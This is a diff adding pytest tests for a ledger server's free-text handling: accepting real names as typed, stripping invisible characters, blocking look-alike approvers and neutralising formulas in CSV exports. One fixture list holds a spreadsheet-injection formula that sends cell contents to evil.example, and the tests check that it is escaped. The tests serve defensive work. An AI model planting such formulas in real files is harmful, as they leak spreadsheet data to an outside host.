@@ -1,0 +1,105 @@
+"""Free text (issue 12): real names are accepted as typed, invisible characters never reach
+the ledger, look-alike names are one person, and a CSV never hands a spreadsheet a formula.
+
+Each test was committed first as a strict xfail against the old rule (a pattern refusing
+``< > " ' ; \\ ``` and control characters, and nothing else)."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import uuid
+from pathlib import Path
+
+import pytest
+from pydantic import ValidationError
+
+from server.api.schemas import ApprovalRequest, ConversionRequest, GrantRequestBody
+from server.cli.settlement import write_csv
+from server.ledger.bulk import ImportReport, Row, RowStatus, write_report
+from server.ledger.settlement import Settlement, ShopLine, SupporterLine
+from tests.unit.server.points_world import PointsWorld
+from tests.unit.server.test_ledger_grants import grant
+
+REAL_NAMES = ["O'Brien", "髙橋 一郎", "Ｔａｎａｋａ", 'Jo "JJ" Lee', "Smith; Jones", "A<B>C"]
+
+
+def _grant_body(staff: str, note: str | None = None) -> dict[str, object]:
+    return {
+        "id": str(uuid.uuid4()),
+        "session_id": str(uuid.uuid4()),
+        "points": 10,
+        "reason": "community",
+        "staff": staff,
+        "note": note,
+    }
+
+
+@pytest.mark.parametrize("name", REAL_NAMES)
+def test_a_real_name_is_accepted_as_typed(name: str) -> None:
+    assert GrantRequestBody.model_validate(_grant_body(name, note=name)).staff == name
+    assert ApprovalRequest.model_validate({"id": "x", "staff": name, "approve": True}).staff == name
+    conversion = {"id": "x", "mykey_id": "ABCD2345", "points": 1, "reference": name}
+    assert ConversionRequest.model_validate(conversion).reference == name
+
+
+@pytest.mark.parametrize(
+    ("typed", "stored"),
+    [("Tanaka\u200b", "Tanaka"), ("\u202eakanaT", "akanaT"), ("山田\u00a0 花子\t", "山田 花子")],
+)
+def test_invisible_characters_are_removed_before_the_text_is_stored(
+    typed: str, stored: str
+) -> None:
+    assert GrantRequestBody.model_validate(_grant_body(typed, note=typed)).staff == stored
+    assert GrantRequestBody.model_validate(_grant_body("x", note=typed)).note == stored
+
+
+@pytest.mark.parametrize("empty", ["\u200b", " \u2060 ", "\x00\x1f"])
+def test_a_name_of_only_invisible_characters_is_refused(empty: str) -> None:
+    with pytest.raises(ValidationError):
+        GrantRequestBody.model_validate(_grant_body(empty))
+
+
+@pytest.mark.parametrize("look_alike", ["Tanaka\u200b", "Ｔａｎａｋａ", "TANAKA", "Tan\u00adaka"])
+def test_a_look_alike_of_the_granting_name_cannot_approve(
+    points: PointsWorld, look_alike: str
+) -> None:
+    holder, _ = points.holder(1)
+    held = grant(points, points.session_id(points.granter, holder), 20_000, staff="Tanaka")
+    assert held.json()["status"] == "awaiting_approval", held.text
+    decision = points.granter.post(
+        f"/v1/grants/{held.json()['id']}/decision",
+        {"id": str(uuid.uuid4()), "staff": look_alike, "approve": True},
+    )
+    assert decision.status_code == 403 and decision.json()["error"] == "approval_refused"
+    waiting = points.granter.get("/v1/grants?status=awaiting_approval").json()
+    assert [g["id"] for g in waiting] == [held.json()["id"]]  # nothing changed
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-3-1234", "-2+3", "@SUM(A1:A9)"]
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_grant_import_report_echoes_no_formula(formula: str) -> None:
+    row = Row(2, formula, formula, "community", None, None, status=RowStatus.ERROR, message=formula)
+    out = io.StringIO()
+    write_report(ImportReport(rows=[row]), out)
+    echoed = [cell for cell in _cells(out.getvalue()) if formula in cell]
+    assert len(echoed) == 3 and all(cell == "'" + formula for cell in echoed)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_settlement_csv_writes_no_formula(formula: str, tmp_path: Path) -> None:
+    settlement = Settlement("14130", formula, dt.date(2026, 11, 1), dt.date(2026, 11, 30))
+    settlement.shops.append(ShopLine("S1", formula, payments=500, refunds=600))
+    settlement.supporters.append(SupporterLine("C1", formula, assigned=100))
+    path = tmp_path / "s.csv"
+    write_csv(settlement, path)
+    cells = _cells(path.read_text(encoding="utf-8-sig"))
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell == formula]
+    assert "-100" in cells  # a negative amount stays a number
